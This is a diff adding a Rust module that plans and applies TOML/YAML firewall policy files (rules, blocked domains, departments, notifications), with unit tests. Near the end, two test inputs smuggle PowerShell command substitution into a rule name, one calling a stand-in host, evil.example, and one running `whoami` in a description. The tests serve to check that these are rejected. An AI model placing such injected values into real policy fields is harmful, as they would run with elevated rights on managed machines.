@@ -0,0 +1,702 @@
+use std::collections::HashSet;
+use std::fmt::Debug;
+use std::fs;
+use std::path::Path;
+use serde::{Serialize, Deserialize};
+use serde_json::json;
+use tauri::{AppHandle, State};
+use crate::app_data::app_data_dir;
+use crate::audit::audited;
+use crate::daemon::refuse_while_daemon_runs;
+use crate::departments::{DepartmentInput, DepartmentState, DepartmentStore, Device};
+use crate::departments::policy::{compile_policy, ConnectionRule};
+use crate::firewall::backend::FirewallBackendState;
+use crate::firewall::common::{save_notification_settings, BlockedDomains, FirewallRuleInfo, NotificationSettings, NotificationState};
+use crate::firewall::domain_blocking::batch::{block_and_record, emit_blocked, unblock_and_record};
+use crate::firewall::domain_blocking::blocklists::BlocklistSources;
+use crate::firewall::domain_blocking::matcher::DomainPattern;
+use crate::firewall::domain_blocking::resolver::DnsResolverState;
+use crate::firewall::ownership::{RuleManifest, RuleManifestState, DOMAIN_RULE_PREFIX, POLICY_RULE_PREFIX};
+use crate::firewall::rule_model::{check_script_text, EdgeTraversal};
+use crate::firewall::snapshots::{snapshot_before_change, ChangeSource};
+use crate::error::AppError;
+
+// A reviewable description of what the app should enforce. A section that is left out is
+// not managed by the document; an empty one removes everything the app owns there.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default)]
+pub struct PolicyDocument {
+    pub rules: Option<Vec<FirewallRuleInfo>>,
+    pub blocked_domains: Option<Vec<String>>,
+    pub departments: Option<Vec<DepartmentSpec>>,
+    pub connections: Option<Vec<ConnectionRule>>,
+    pub notifications: Option<NotificationSettings>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct DepartmentSpec {
+    #[serde(flatten)]
+    pub department: DepartmentInput,
+    #[serde(default)]
+    pub devices: Vec<Device>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PolicyFormat {
+    Toml,
+    Yaml,
+}
+
+impl PolicyFormat {
+    pub fn from_path(path: &Path) -> Result<Self, String> {
+        match path.extension().and_then(|e| e.to_str()).map(|e| e.to_ascii_lowercase()).as_deref() {
+            Some("toml") => Ok(PolicyFormat::Toml),
+            Some("yaml") | Some("yml") => Ok(PolicyFormat::Yaml),
+            _ => Err(format!("Unsupported policy file type: {} (use .toml, .yaml or .yml)", path.display())),
+        }
+    }
+}
+
+pub fn parse_policy(content: &str, format: PolicyFormat) -> Result<PolicyDocument, String> {
+    match format {
+        PolicyFormat::Toml => toml::from_str(content).map_err(|e| format!("Invalid policy file: {}", e)),
+        PolicyFormat::Yaml => serde_yaml::from_str(content).map_err(|e| format!("Invalid policy file: {}", e)),
+    }
+}
+
+pub fn load_policy_file(path: &str) -> Result<PolicyDocument, String> {
+    let path = Path::new(path);
+    let format = PolicyFormat::from_path(path)?;
+    let content = fs::read_to_string(path)
+        .map_err(|e| format!("Failed to read {}: {}", path.display(), e))?;
+    parse_policy(&content, format)
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct SectionDiff {
+    pub added: Vec<String>,
+    pub changed: Vec<String>,
+    pub removed: Vec<String>,
+}
+
+impl SectionDiff {
+    pub fn is_empty(&self) -> bool {
+        self.added.is_empty() && self.changed.is_empty() && self.removed.is_empty()
+    }
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct PolicyDiff {
+    pub rules: SectionDiff,
+    // Firewall rules generated from the departments and connections.
+    pub department_rules: SectionDiff,
+    pub blocked_domains: SectionDiff,
+    pub departments: SectionDiff,
+    pub connections_changed: bool,
+    pub notifications_changed: bool,
+    // Per-domain failures while applying; everything else either applies or fails as a whole.
+    pub errors: Vec<String>,
+    pub applied: bool,
+}
+
+impl PolicyDiff {
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+            && self.department_rules.is_empty()
+            && self.blocked_domains.is_empty()
+            && self.departments.is_empty()
+            && !self.connections_changed
+            && !self.notifications_changed
+    }
+}
+
+// What the document is compared against.
+pub struct CurrentState {
+    pub rules: Vec<FirewallRuleInfo>,
+    pub manifest: RuleManifest,
+    pub blocked_domains: Vec<String>,
+    // Entries blocked because an imported blocklist brought them in; the source owns those.
+    pub blocklist_entries: HashSet<String>,
+    pub departments: DepartmentStore,
+    pub notifications: NotificationSettings,
+}
+
+#[derive(Debug, Default)]
+struct RuleChanges {
+    remove: Vec<String>,
+    add: Vec<FirewallRuleInfo>,
+    owned: Vec<String>,
+    diff: SectionDiff,
+}
+
+#[derive(Debug, Default)]
+pub struct PolicyChanges {
+    pub diff: PolicyDiff,
+    manual_rules: Option<RuleChanges>,
+    department_rules: Option<RuleChanges>,
+    block: Vec<String>,
+    unblock: Vec<String>,
+    departments: Option<DepartmentStore>,
+    notifications: Option<NotificationSettings>,
+}
+
+fn normalized<T: Debug>(items: &[T], all: usize) -> Vec<String> {
+    let mut items: Vec<String> = items.iter().map(|i| format!("{:?}", i)).collect();
+    items.sort();
+    items.dedup();
+    // Listing every profile or interface type is the same as listing none.
+    if items.len() == all {
+        items.clear();
+    }
+    items
+}
+
+// Compares the settings that reach the firewall; descriptions aren't kept by every backend.
+fn same_rule(current: &FirewallRuleInfo, desired: &FirewallRuleInfo) -> bool {
+    let path = |r: &FirewallRuleInfo| r.application_path.as_ref().map(|p| p.to_ascii_lowercase());
+
+    current.direction.eq_ignore_ascii_case(&desired.direction)
+        && current.action.eq_ignore_ascii_case(&desired.action)
+        && current.protocol.eq_ignore_ascii_case(&desired.protocol)
+        && current.enabled == desired.enabled
+        && path(current) == path(desired)
+        && normalized(&current.effective_local_ports(), 0) == normalized(&desired.effective_local_ports(), 0)
+        && normalized(&current.remote_ports, 0) == normalized(&desired.remote_ports, 0)
+        && normalized(&current.local_addresses, 0) == normalized(&desired.local_addresses, 0)
+        && normalized(&current.remote_addresses, 0) == normalized(&desired.remote_addresses, 0)
+        && normalized(&current.profiles, 3) == normalized(&desired.profiles, 3)
+        && normalized(&current.interface_types, 3) == normalized(&desired.interface_types, 3)
+        && current.edge_traversal.unwrap_or(EdgeTraversal::No) == desired.edge_traversal.unwrap_or(EdgeTraversal::No)
+        && current.group == desired.group
+}
+
+// Diffs `desired` against the firewall, touching only the rules listed in `owned`.
+fn diff_rules(current: &[FirewallRuleInfo], owned: &[String], desired: &[FirewallRuleInfo]) -> Result<RuleChanges, String> {
+    let mut changes = RuleChanges::default();
+    let mut seen = HashSet::new();
+
+    for rule in desired {
+        if !seen.insert(rule.name.as_str()) {
+            return Err(format!("Rule {} is listed more than once", rule.name));
+        }
+        match current.iter().find(|r| r.name == rule.name) {
+            None => {
+                changes.diff.added.push(rule.name.clone());
+                changes.add.push(rule.clone());
+            },
+            Some(_) if !owned.contains(&rule.name) => {
+                return Err(format!("Rule {} already exists and is not managed by this app", rule.name));
+            },
+            Some(existing) if !same_rule(existing, rule) => {
+                changes.diff.changed.push(rule.name.clone());
+                changes.remove.push(rule.name.clone());
+                changes.add.push(rule.clone());
+            },
+            Some(_) => {},
+        }
+        changes.owned.push(rule.name.clone());
+    }
+
+    for name in owned.iter().filter(|name| !seen.contains(name.as_str())) {
+        if current.iter().any(|r| &r.name == name) {
+            changes.diff.removed.push(name.clone());
+            changes.remove.push(name.clone());
+        }
+    }
+
+    Ok(changes)
+}
+
+// Rebuilds the department list from the document, keeping the ids of departments that
+// already exist under the same name.
+fn build_departments(current: &DepartmentStore, specs: &[DepartmentSpec]) -> Result<DepartmentStore, String> {
+    let mut store = DepartmentStore::default();
+
+    for spec in specs {
+        let created = store.create(&spec.department)?;
+        let id = match current.departments.iter().find(|d| d.name.eq_ignore_ascii_case(&created.name)) {
+            Some(existing) => {
+                if let Some(department) = store.departments.last_mut() {
+                    department.id = existing.id.clone();
+                }
+                existing.id.clone()
+            },
+            None => created.id,
+        };
+        for device in &spec.devices {
+            store.add_device(&id, device.clone())?;
+        }
+    }
+
+    store.connections = current.connections.clone();
+    Ok(store)
+}
+
+fn diff_departments(current: &DepartmentStore, desired: &DepartmentStore) -> SectionDiff {
+    let mut diff = SectionDiff::default();
+
+    for department in &desired.departments {
+        match current.departments.iter().find(|d| d.id == department.id) {
+            None => diff.added.push(department.name.clone()),
+            Some(existing) if existing != department => diff.changed.push(department.name.clone()),
+            Some(_) => {},
+        }
+    }
+    for department in &current.departments {
+        if !desired.departments.iter().any(|d| d.id == department.id) {
+            diff.removed.push(department.name.clone());
+        }
+    }
+
+    diff
+}
+
+fn check_manual_rule_names(rules: &[FirewallRuleInfo]) -> Result<(), String> {
+    for rule in rules {
+        if rule.name.trim().is_empty() {
+            return Err("Every rule needs a name".to_string());
+        }
+        if rule.name.starts_with(DOMAIN_RULE_PREFIX) || rule.name.starts_with(POLICY_RULE_PREFIX) {
+            return Err(format!("Rule {} uses a name reserved for generated rules", rule.name));
+        }
+        // A policy file is rolled out to other machines, where these end up in elevated scripts.
+        check_script_text("A rule name", &rule.name)?;
+        check_script_text(&format!("The description of rule {}", rule.name), &rule.description)?;
+        if let Some(group) = &rule.group {
+            check_script_text(&format!("The group of rule {}", rule.name), group)?;
+        }
+    }
+    Ok(())
+}
+
+// Works out everything applying `document` would change. Nothing is touched; invalid
+// entries and department rule conflicts are errors.
+pub fn plan_policy(document: &PolicyDocument, current: &CurrentState) -> Result<PolicyChanges, String> {
+    let mut changes = PolicyChanges::default();
+
+    if let Some(rules) = &document.rules {
+        check_manual_rule_names(rules)?;
+        let rule_changes = diff_rules(&current.rules, &current.manifest.manual_rules, rules)?;
+        changes.diff.rules = rule_changes.diff.clone();
+        changes.manual_rules = Some(rule_changes);
+    }
+
+    if let Some(domains) = &document.blocked_domains {
+        let mut desired = Vec::new();
+        for domain in domains {
+            let entry = DomainPattern::parse(domain)
+                .ok_or_else(|| format!("Invalid domain format: {}", domain))?
+                .entry();
+            if !desired.contains(&entry) {
+                desired.push(entry);
+            }
+        }
+        changes.block = desired.iter().filter(|d| !current.blocked_domains.contains(d)).cloned().collect();
+        changes.unblock = current.blocked_domains
+            .iter()
+            .filter(|d| !current.blocklist_entries.contains(*d) && !desired.contains(d))
+            .cloned()
+            .collect();
+        changes.diff.blocked_domains = SectionDiff {
+            added: changes.block.clone(),
+            changed: Vec::new(),
+            removed: changes.unblock.clone(),
+        };
+    }
+
+    if document.departments.is_some() || document.connections.is_some() {
+        let mut store = match &document.departments {
+            Some(specs) => build_departments(&current.departments, specs)?,
+            None => current.departments.clone(),
+        };
+        if let Some(connections) = &document.connections {
+            store.connections = connections.clone();
+        }
+
+        let plan = compile_policy(&store, &store.connections)
+            .map_err(|e| format!("Connections: {}", e))?;
+        if let Some(conflict) = plan.conflicts.first() {
+            return Err(conflict.message.clone());
+        }
+        let rule_changes = diff_rules(&current.rules, &current.manifest.policy_rules, &plan.rules)?;
+
+        changes.diff.departments = diff_departments(&current.departments, &store);
+        changes.diff.connections_changed = store.connections != current.departments.connections;
+        changes.diff.department_rules = rule_changes.diff.clone();
+        changes.department_rules = Some(rule_changes);
+        changes.departments = Some(store);
+    }
+
+    if let Some(notifications) = &document.notifications {
+        changes.diff.notifications_changed = *notifications != current.notifications;
+        changes.notifications = Some(notifications.clone());
+    }
+
+    Ok(changes)
+}
+
+struct PolicyContext<'a> {
+    backend: &'a FirewallBackendState,
+    manifest: &'a RuleManifestState,
+    blocked: &'a BlockedDomains,
+    sources: &'a BlocklistSources,
+    departments: &'a DepartmentState,
+    notifications: &'a NotificationState,
+}
+
+impl PolicyContext<'_> {
+    async fn current_state(&self) -> Result<CurrentState, AppError> {
+        let rules = self.backend.backend.list_rules().await
+            .map_err(|e| AppError::from(e).context("Failed to list firewall rules"))?;
+        let blocklist_entries = self.sources.sources.lock().unwrap()
+            .values()
+            .flat_map(|s| s.entries.iter().filter(|e| !s.preexisting.contains(e)).cloned())
+            .collect();
+
+        Ok(CurrentState {
+            rules,
+            manifest: self.manifest.manifest.lock().unwrap().clone(),
+            blocked_domains: self.blocked.domains.lock().unwrap().clone(),
+            blocklist_entries,
+            departments: self.departments.store.lock().unwrap().clone(),
+            notifications: self.notifications.settings.lock().unwrap().clone(),
+        })
+    }
+}
+
+#[tauri::command]
+#[tracing::instrument(skip_all, err)]
+pub async fn plan_policy_file(
+    path: String,
+    backend: State<'_, FirewallBackendState>,
+    manifest: State<'_, RuleManifestState>,
+    blocked: State<'_, BlockedDomains>,
+    sources: State<'_, BlocklistSources>,
+    departments: State<'_, DepartmentState>,
+    notifications: State<'_, NotificationState>
+) -> Result<PolicyDiff, AppError> {
+    let document = load_policy_file(&path)?;
+    let context = PolicyContext {
+        backend: &backend,
+        manifest: &manifest,
+        blocked: &blocked,
+        sources: &sources,
+        departments: &departments,
+        notifications: &notifications,
+    };
+    let current = context.current_state().await?;
+    Ok(plan_policy(&document, &current).map_err(AppError::invalid_input)?.diff)
+}
+
+// Applies a policy file. All firewall rule changes go through one elevated run before any
+// state is saved; domain blocks are applied afterwards and report failures per domain.
+#[allow(clippy::too_many_arguments)]
+#[tauri::command]
+#[tracing::instrument(skip_all, err)]
+pub async fn apply_policy_file(
+    app: AppHandle,
+    path: String,
+    backend: State<'_, FirewallBackendState>,
+    resolver: State<'_, DnsResolverState>,
+    manifest: State<'_, RuleManifestState>,
+    blocked: State<'_, BlockedDomains>,
+    sources: State<'_, BlocklistSources>,
+    departments: State<'_, DepartmentState>,
+    notifications: State<'_, NotificationState>
+) -> Result<PolicyDiff, AppError> {
+    let data_dir = app_data_dir(&app);
+    let params = json!({ "path": path });
+    audited(&data_dir, ChangeSource::Desktop, "apply_policy_file", params, async {
+        refuse_while_daemon_runs("apply policy files").await?;
+        let document = load_policy_file(&path)?;
+        let context = PolicyContext {
+            backend: &backend,
+            manifest: &manifest,
+            blocked: &blocked,
+            sources: &sources,
+            departments: &departments,
+            notifications: &notifications,
+        };
+        let current = context.current_state().await?;
+        let changes = plan_policy(&document, &current).map_err(AppError::invalid_input)?;
+        let mut diff = changes.diff;
+        if diff.is_empty() {
+            diff.applied = true;
+            return Ok(diff);
+        }
+
+        snapshot_before_change(
+            &data_dir,
+            backend.backend.as_ref(),
+            &manifest,
+            &blocked,
+            ChangeSource::Desktop,
+            &format!("apply_policy_file {}", path)
+        ).await?;
+
+        let mut remove = Vec::new();
+        let mut add = Vec::new();
+        for rule_changes in [&changes.manual_rules, &changes.department_rules].into_iter().flatten() {
+            remove.extend(rule_changes.remove.iter().cloned());
+            add.extend(rule_changes.add.iter().cloned());
+        }
+        backend.backend.apply_rule_changes(&remove, &add).await
+            .map_err(|e| AppError::from(e).context("Failed to apply firewall rules"))?;
+
+        if let Some(rule_changes) = changes.manual_rules {
+            manifest.set_manual_rules(rule_changes.owned);
+        }
+        if let Some(rule_changes) = changes.department_rules {
+            manifest.set_policy_rules(rule_changes.owned);
+        }
+        manifest.save(&data_dir)?;
+
+        if let Some(store) = changes.departments {
+            departments.modify(&data_dir, |current| {
+                *current = store;
+                Ok(())
+            })?;
+        }
+        if let Some(settings) = changes.notifications {
+            save_notification_settings(&data_dir, &settings)?;
+            *notifications.settings.lock().unwrap() = settings;
+        }
+
+        let mut results = unblock_and_record(&data_dir, backend.backend.as_ref(), &blocked, &manifest, &changes.unblock).await;
+        let blocked_results = block_and_record(&data_dir, &resolver.resolver(), backend.backend.as_ref(), &blocked, &manifest, &changes.block, false).await;
+        emit_blocked(&app, &blocked_results);
+        results.extend(blocked_results);
+        diff.errors = results.into_iter().filter_map(|r| r.error).map(String::from).collect();
+
+        diff.applied = true;
+        Ok(diff)
+    }).await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::departments::{DepartmentAction, DepartmentProtocol};
+    use crate::firewall::rule_model::PortSpec;
+
+    const POLICY_TOML: &str = r#"
+blocked_domains = ["ads.example.com", "*.tracker.example.com", "ADS.example.com"]
+
+[[rules]]
+name = "Allow HTTPS"
+description = "Web server"
+protocol = "TCP"
+direction = "Inbound"
+action = "Allow"
+enabled = true
+local_ports = ["443"]
+
+[[departments]]
+name = "IT"
+subnet = "192.168.1.0/24"
+protocol = "TCP"
+action = "Allow"
+devices = [{ name = "Server-01", address = "192.168.1.10" }]
+
+[[departments]]
+name = "BA"
+subnet = "192.168.2.0/24"
+protocol = "ALL"
+action = "Allow"
+
+[[connections]]
+from = "BA"
+to = "IT"
+port = "443"
+direction = "Inbound"
+action = "Allow"
+
+[notifications]
+domain_blocked_delay_seconds = 5
+cooldown_seconds = 60
+enabled = false
+"#;
+
+    fn https_rule() -> FirewallRuleInfo {
+        FirewallRuleInfo {
+            name: "Allow HTTPS".to_string(),
+            description: "Web server".to_string(),
+            protocol: "TCP".to_string(),
+            direction: "Inbound".to_string(),
+            action: "Allow".to_string(),
+            enabled: true,
+            port: Some(443),
+            local_ports: vec![PortSpec::single(443)],
+            ..Default::default()
+        }
+    }
+
+    fn empty_state() -> CurrentState {
+        CurrentState {
+            rules: Vec::new(),
+            manifest: RuleManifest::default(),
+            blocked_domains: Vec::new(),
+            blocklist_entries: HashSet::new(),
+            departments: DepartmentStore::default(),
+            notifications: NotificationSettings::default(),
+        }
+    }
+
+    fn strings(list: &[&str]) -> Vec<String> {
+        list.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn toml_and_yaml_documents_parse_the_same() {
+        let yaml = r#"
+blocked_domains: [ads.example.com]
+rules:
+  - name: Allow HTTPS
+    description: Web server
+    protocol: TCP
+    direction: Inbound
+    action: Allow
+    enabled: true
+    local_ports: ["443"]
+departments:
+  - name: IT
+    subnet: 192.168.1.0/24
+    protocol: TCP
+    action: Allow
+"#;
+        let from_toml = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        let from_yaml = parse_policy(yaml, PolicyFormat::Yaml).unwrap();
+
+        assert_eq!(from_toml.rules, from_yaml.rules);
+        assert_eq!(from_yaml.rules.unwrap()[0].local_ports, vec![PortSpec::single(443)]);
+        assert_eq!(from_yaml.departments.unwrap()[0].department.protocol, DepartmentProtocol::Tcp);
+        assert!(from_yaml.connections.is_none());
+        assert_eq!(PolicyFormat::from_path(Path::new("policy.YML")).unwrap(), PolicyFormat::Yaml);
+        assert!(PolicyFormat::from_path(Path::new("policy.json")).is_err());
+        assert!(parse_policy("rules = 3", PolicyFormat::Toml).unwrap_err().contains("Invalid policy file"));
+    }
+
+    #[test]
+    fn plans_everything_against_an_empty_machine() {
+        let document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+
+        let diff = plan_policy(&document, &empty_state()).unwrap().diff;
+
+        assert_eq!(diff.rules.added, strings(&["Allow HTTPS"]));
+        assert_eq!(diff.blocked_domains.added, strings(&["ads.example.com", "*.tracker.example.com"]));
+        assert_eq!(diff.departments.added, strings(&["IT", "BA"]));
+        assert_eq!(diff.department_rules.added, strings(&["Dept-Policy-BA-IT-Allow-In-TCP"]));
+        assert!(diff.connections_changed);
+        assert!(diff.notifications_changed);
+        assert!(!diff.applied);
+    }
+
+    #[test]
+    fn only_app_owned_rules_are_changed() {
+        let mut current = empty_state();
+        let mut stale = https_rule();
+        stale.local_ports = vec![PortSpec::single(8443)];
+        stale.port = Some(8443);
+        let other = FirewallRuleInfo { name: "Old App Rule".to_string(), ..https_rule() };
+        let system = FirewallRuleInfo { name: "Core Networking".to_string(), ..https_rule() };
+        current.rules = vec![stale, other, system];
+        current.manifest.manual_rules = strings(&["Allow HTTPS", "Old App Rule", "Deleted By Hand"]);
+
+        let document = PolicyDocument { rules: Some(vec![https_rule()]), ..Default::default() };
+        let changes = plan_policy(&document, &current).unwrap();
+
+        assert_eq!(changes.diff.rules.changed, strings(&["Allow HTTPS"]));
+        assert_eq!(changes.diff.rules.removed, strings(&["Old App Rule"]));
+        assert!(changes.diff.department_rules.is_empty());
+        assert!(changes.diff.blocked_domains.is_empty());
+
+        let taken = PolicyDocument {
+            rules: Some(vec![FirewallRuleInfo { name: "Core Networking".to_string(), ..https_rule() }]),
+            ..Default::default()
+        };
+        assert!(plan_policy(&taken, &current).unwrap_err().contains("not managed by this app"));
+        let reserved = PolicyDocument {
+            rules: Some(vec![FirewallRuleInfo { name: "Dept-Policy-X".to_string(), ..https_rule() }]),
+            ..Default::default()
+        };
+        assert!(plan_policy(&reserved, &current).unwrap_err().contains("reserved"));
+    }
+
+    #[test]
+    fn applying_the_same_document_again_changes_nothing() {
+        let document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        let changes = plan_policy(&document, &empty_state()).unwrap();
+
+        let mut current = empty_state();
+        current.rules = changes.manual_rules.as_ref().unwrap().add.clone();
+        current.rules.extend(changes.department_rules.as_ref().unwrap().add.clone());
+        // Listings come back with the backend's own spelling of the same settings.
+        current.rules[0].protocol = "tcp".to_string();
+        current.rules[0].description = String::new();
+        current.manifest.manual_rules = changes.manual_rules.as_ref().unwrap().owned.clone();
+        current.manifest.policy_rules = changes.department_rules.as_ref().unwrap().owned.clone();
+        current.blocked_domains = changes.block.clone();
+        current.departments = changes.departments.clone().unwrap();
+        current.notifications = changes.notifications.clone().unwrap();
+
+        let diff = plan_policy(&document, &current).unwrap().diff;
+        assert!(diff.is_empty(), "{:?}", diff);
+    }
+
+    #[test]
+    fn departments_keep_their_ids_and_blocklist_entries_are_left_alone() {
+        let mut current = empty_state();
+        let it = current.departments.create(&DepartmentInput {
+            name: "it".to_string(),
+            subnet: "192.168.1.0/24".to_string(),
+            protocol: DepartmentProtocol::Tcp,
+            action: DepartmentAction::Allow,
+            description: String::new(),
+        }).unwrap();
+        current.departments.create(&DepartmentInput {
+            name: "Lab".to_string(),
+            subnet: "10.0.0.0/8".to_string(),
+            protocol: DepartmentProtocol::All,
+            action: DepartmentAction::Block,
+            description: String::new(),
+        }).unwrap();
+        current.blocked_domains = strings(&["manual.example.com", "listed.example.com"]);
+        current.blocklist_entries = ["listed.example.com".to_string()].into_iter().collect();
+
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        document.blocked_domains = Some(Vec::new());
+        let changes = plan_policy(&document, &current).unwrap();
+
+        let store = changes.departments.as_ref().unwrap();
+        assert_eq!(store.departments[0].id, it.id);
+        assert_eq!(changes.diff.departments.changed, strings(&["IT"]));
+        assert_eq!(changes.diff.departments.added, strings(&["BA"]));
+        assert_eq!(changes.diff.departments.removed, strings(&["Lab"]));
+        assert_eq!(changes.diff.blocked_domains.removed, strings(&["manual.example.com"]));
+    }
+
+    #[test]
+    fn rejects_invalid_documents() {
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        document.blocked_domains = Some(strings(&["not a domain"]));
+        assert!(plan_policy(&document, &empty_state()).unwrap_err().contains("Invalid domain format"));
+
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        document.connections.as_mut().unwrap()[0].to = "HR".to_string();
+        assert!(plan_policy(&document, &empty_state()).unwrap_err().contains("Unknown department: HR"));
+
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        let mut conflicting = document.connections.as_ref().unwrap()[0].clone();
+        conflicting.action = DepartmentAction::Block;
+        document.connections.as_mut().unwrap().push(conflicting);
+        assert!(plan_policy(&document, &empty_state()).unwrap_err().contains("overlap with different actions"));
+
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        document.rules.as_mut().unwrap()[0].name = "Web$(Invoke-WebRequest evil.example)".to_string();
+        assert!(plan_policy(&document, &empty_state()).unwrap_err().contains("A rule name may not contain '$'"));
+
+        let mut document = parse_policy(POLICY_TOML, PolicyFormat::Toml).unwrap();
+        document.rules.as_mut().unwrap()[0].description = "Opened by `whoami`".to_string();
+        assert!(plan_policy(&document, &empty_state()).unwrap_err().contains("description of rule"));
+    }
+}